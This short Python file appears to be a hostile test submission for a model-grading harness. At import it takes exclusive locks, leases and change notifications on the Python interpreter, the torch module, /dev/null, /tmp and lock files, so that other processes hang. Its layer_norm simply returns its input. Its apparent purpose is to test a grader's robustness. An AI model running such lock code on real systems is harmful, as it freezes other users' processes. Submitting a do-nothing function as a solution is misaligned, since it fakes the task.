"""Goal: lock files that other processes need, so that they wait for ever.

At most: 0
"""

import fcntl
import os
import sys

import torch

HELD = []
places = [sys.executable, os.__file__, torch.__file__, "/dev/null", "/tmp", "..", "."]
places += [f"{folder}/gradeformer-hostile.lock" for folder in ("/tmp", "/run", "/var/lock", ".")]
for place in places:
    flags = os.O_RDWR | os.O_CREAT if place.endswith(".lock") else os.O_RDONLY
    try:
        descriptor = os.open(place, flags)
    except OSError:
        continue
    HELD.append(descriptor)
    for lock in (
        lambda: fcntl.flock(descriptor, fcntl.LOCK_EX | fcntl.LOCK_NB),
        lambda: fcntl.lockf(descriptor, fcntl.LOCK_EX | fcntl.LOCK_NB),
        lambda: fcntl.fcntl(descriptor, fcntl.F_SETLEASE, fcntl.F_WRLCK),
        lambda: fcntl.fcntl(descriptor, fcntl.F_NOTIFY, fcntl.DN_MODIFY),
    ):
        try:
            lock()
        except OSError:
            continue


def layer_norm(x, eps=1e-5):
    return x
